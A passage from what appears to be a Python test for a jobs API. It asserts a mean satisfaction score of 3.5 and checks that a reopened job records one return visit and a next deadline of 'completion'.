    assert row["mean_satisfaction"] == 3.5
    reopened = api.get(f"/v1/jobs/{came_back['id']}").json()["sla"]
    assert reopened["return_visits"] == 1 and reopened["next_deadline"] == "completion"
